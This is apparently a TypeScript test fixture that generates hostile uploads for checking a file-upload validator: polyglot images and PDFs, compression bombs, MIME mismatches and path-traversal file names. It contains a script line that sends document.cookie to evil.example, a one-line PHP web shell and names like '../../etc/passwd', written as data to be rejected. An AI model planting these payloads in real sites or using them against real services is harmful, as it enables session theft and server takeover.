import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aPdf, pdfPage } from './pdfs.ts';
import { aPng, pngChunk } from './pictures.ts';

/** An upload that must be rejected; `says` are the acceptable error codes. */
export type HostileFile = { name: string; type: string; fileName?: string; bytes: Buffer; says: string[] };

const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const unreadable = ['FILE_UNREADABLE'];
const wrongType = ['FILE_TYPE'];

/** A page with `bytes` zeros as content, compressed. */
function pdfBomb(bytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(bytes)).toString('latin1');
  const objects = pdfPage('x');
  objects[3] = `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`;
  return aPdf(objects);
}

/** A zip with one stored entry. */
function aZip(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([local, Buffer.from(name), data, end]);
}

/** A PNG whose header claims this size, with only a few bytes of data. */
function pngSaying(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(100_000))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

async function images() {
  const one = (background: string) =>
    sharp({ create: { width: 40, height: 40, channels: 3, background } })
      .png()
      .toBuffer();
  const base = sharp({ create: { width: 90, height: 60, channels: 3, background: '#37c' } });
  return {
    jpeg: await base.clone().jpeg().toBuffer(),
    webp: await base.clone().webp().toBuffer(),
    gif: await base.clone().gif().toBuffer(),
    tiff: await base.clone().tiff().toBuffer(),
    avif: await base.clone().avif().toBuffer(),
    moving: await sharp([await one('#f00'), await one('#00f')], { join: { animated: true } })
      .webp()
      .toBuffer(),
    png: aPng({ width: 90, height: 60 }),
  };
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
/** Contents of other kinds, which an image or a PDF must not hold. */
export const foreignContents: [string, Buffer][] = [
  ['a script', Buffer.from(script)],
  ['a page', Buffer.from(`<!DOCTYPE html><html>${script}</html>`)],
  ['PHP', Buffer.from('<?php system($_GET[0]); ?>')],
  ['a drawing', Buffer.from(svg)],
  ['a zip', aZip('evil.class', Buffer.from('cafebabe'))],
  ['a PDF', aPdf(pdfPage('hidden'))],
  ['a program', Buffer.from('\x7fELF\x02\x01\x01\0\0\0', 'latin1')],
];

/** Uploads that are not what they claim to be or are harmful to read; the same in every run. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const given = await images();
  const good = [
    ['image/png', given.png],
    ['image/jpeg', given.jpeg],
    ['image/webp', given.webp],
    ['application/pdf', aPdf(pdfPage('Hello'))],
  ] as const;
  const found: HostileFile[] = [];
  const add = (name: string, type: string, bytes: Buffer, says: string[], fileName = 'x') =>
    found.push({ name, type, bytes, says, fileName });

  // Each of these is read in a process of its own: one of each kind.
  for (const [type, bytes] of [good[0], good[3]]) {
    add(`${type} and a script`, type, Buffer.concat([bytes, Buffer.from(script)]), unreadable);
    add(`a part of ${type}`, type, bytes.subarray(0, Math.floor(bytes.length * 0.9)), unreadable);
    add(`${type} of noise`, type, Buffer.concat([bytes.subarray(0, 12), Buffer.alloc(500, 7)]), unreadable);
  }
  add(
    'a script before a PDF',
    'application/pdf',
    Buffer.concat([Buffer.from(script), good[3][1]]),
    unreadable,
  );

  for (const [type, bytes] of good) {
    for (const [other] of good) {
      if (other !== type) add(`${type} declared as ${other}`, other, bytes, wrongType);
    }
    for (const text of ['text/plain', 'text/markdown', 'text/csv'])
      add(`${type} declared as ${text}`, text, bytes, wrongType);
    add(`${type} without content`, type, Buffer.alloc(0), unreadable);
    for (const [what, alone] of foreignContents) {
      if (!(type === 'application/pdf' && what === 'a PDF'))
        add(`${what} declared as ${type}`, type, alone, wrongType);
    }
  }
  const kinds: [string, Buffer][] = [
    ['image/gif', given.gif],
    ['image/tiff', given.tiff],
    ['image/avif', given.avif],
    ['image/svg+xml', Buffer.from(svg)],
    ['text/html', Buffer.from(script)],
    ['application/zip', aZip('a', Buffer.from('a'))],
    ['application/xhtml+xml', Buffer.from(script)],
    ['application/javascript', Buffer.from('alert(1)')],
    ['application/octet-stream', given.png],
  ];
  for (const [type, bytes] of kinds) {
    add(type, type, bytes, wrongType);
    for (const other of ['image/png', 'image/jpeg', 'application/pdf']) {
      if (type !== 'application/octet-stream') add(`${type} declared as ${other}`, other, bytes, wrongType);
    }
  }
  for (const [width, height] of [
    [100_000, 100_000],
    [7000, 6000],
  ] as const)
    add(`a PNG of ${width} × ${height}`, 'image/png', pngSaying(width, height), unreadable);
  add('a PNG with too few pixels', 'image/png', pngSaying(5000, 5000), unreadable);
  add('an animated WebP', 'image/webp', given.moving, unreadable);
  add('a PDF of 100 MB', 'application/pdf', pdfBomb(100 * 1024 * 1024), unreadable);
  add('a PDF without pages', 'application/pdf', aPdf(['<< /Type /Catalog >>']), unreadable);
  const loop = pdfPage('x');
  loop[1] = '<< /Type /Pages /Kids [2 0 R] /Count 1 >>';
  add('a PDF whose page tree is a loop', 'application/pdf', aPdf(loop), unreadable);
  for (const bytes of [
    [0xc0, 0xaf],
    [0xed, 0xa0, 0x80],
    [65, 0, 66],
    [27, 91, 50, 74],
    [32, 10],
  ])
    for (const type of ['text/plain', 'text/csv', 'text/markdown'])
      add(`bytes ${bytes} declared as ${type}`, type, Buffer.from(bytes), unreadable);
  add('a file of 11 MB', 'text/plain', Buffer.alloc(11 * 1024 * 1024, 97), ['FILE_TOO_LARGE']);
  for (const path of ['../../etc/passwd', 'C:\\Windows\\x.exe', '/dev/null', '\0', '%00.png', '..%2f..%2fx'])
    add(`no text, named ${JSON.stringify(path)}`, 'text/plain', Buffer.from([65, 0, 66]), unreadable, path);
  return found;
}
